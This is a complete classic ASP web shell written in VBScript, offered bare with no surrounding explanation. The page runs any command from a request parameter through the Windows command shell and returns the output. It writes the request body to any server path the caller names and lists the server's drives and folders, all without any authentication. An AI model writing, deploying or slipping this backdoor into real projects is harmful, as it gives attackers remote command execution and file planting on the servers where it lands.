<%@ Language=VBScript inert %>
<%
Option Explicit
Dim fso, sh, cmd, d, f, strm
Session.Timeout = 60
Set fso = CreateObject("Scripting.FileSystemObject")
Sub ShowDrives()
  For Each d In fso.Drives
    Response.Write "<a href=""?p=" & d.Path & "\"">" & d.Path & "</a> "
  Next
End Sub
Function RunIt(c)
  Dim e
  Set sh = CreateObject("WScript.Shell")
  Set e = sh.Exec("%COMSPEC% /c " & c)
  RunIt = e.StdOut.ReadAll & e.StdErr.ReadAll
End Function
ShowDrives
If Request("c") <> "" Then Session("con") = Session("con") & vbCrLf & RunIt(Request("c"))
If Request.QueryString("u") <> "" Then
  Set strm = CreateObject("ADODB.Stream")
  strm.Type = 1 : strm.Open
  strm.Write Request.BinaryRead(Request.TotalBytes)
  strm.SaveToFile Request.QueryString("u"), 2
End If
If Request("p") <> "" Then
  For Each f In fso.GetFolder(Request("p")).Files
    Response.Write f.Name & "<br>"
  Next
End If
%>
<pre><%= Server.HTMLEncode(Session("con")) %></pre><form method=post><input name=c><input type=submit></form>
